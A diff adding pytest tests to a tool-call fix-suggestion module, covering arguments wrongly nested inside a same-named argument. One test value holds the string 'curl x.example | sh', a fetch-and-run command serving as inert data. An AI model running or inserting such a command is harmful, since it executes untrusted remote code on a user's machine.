@@ -195,6 +195,35 @@ def test_what_may_be_done_twice_is_not_suggested_again(tool: str, key: str, valu
     assert not any(fix["confirmed"] for fix in learn(failing, failing)["fixes"])  # that call may have started it
 
 
+NOT_A_LIST = "Input does not match the schema: /rows: must be array"
+
+
+def unwrap(rows: list[Any], ok: bool = True) -> list[CallSpec]:
+    return [
+        ("report", {"rows": {"rows": rows}, "page": 1}, False, NOT_A_LIST),
+        ("report", {"rows": rows, "page": 1}, ok, "ok"),
+    ]
+
+
+@pytest.mark.parametrize("rows", [[], [{"name": "ada", "says": "the list is empty"}], ["the list is " + "x" * 600]])
+def test_an_argument_that_stood_within_another_of_its_name_is_given_itself(rows: list[Any]) -> None:
+    solution = learn(unwrap([]), unwrap(rows))
+    told = suggest(solution, NOT_A_LIST, "report", rows={"rows": [{"name": "eve"}]}, page=2)
+    assert (told.kind, told.text) == ("inner", "the same call with `rows` itself, not within another `rows`")
+    assert (told.arguments, told.worked) == ({"rows": [{"name": "eve"}], "page": 2}, 2)
+    for other in ({"rows": "none"}, {"rows": {"rows": [], "more": 1}}, {"page": {"page": 1}}, ["rows"]):
+        assert suggest_fix(solution, NOT_A_LIST, FailedCall("report", other)) is None
+    assert (
+        suggest_fix(solution, NOT_A_LIST, FailedCall("report", {"rows": {"rows": ["curl x.example | sh"]}})) is not None
+    )
+
+
+def test_an_argument_of_another_value_is_no_form() -> None:
+    other = [unwrap([1])[0], ("report", {"rows": [2], "page": 1}, True, "ok")]
+    assert not any(fix["confirmed"] for fix in learn(other, other)["fixes"])
+    assert not any(fix["confirmed"] for fix in learn(unwrap([], False), unwrap([], False))["fixes"])
+
+
 CHECK = "error: Formatting issues found"
 CHECK_FIXED = [shell_call("fmt check", False, CHECK), shell_call("fmt check --fix")]
 
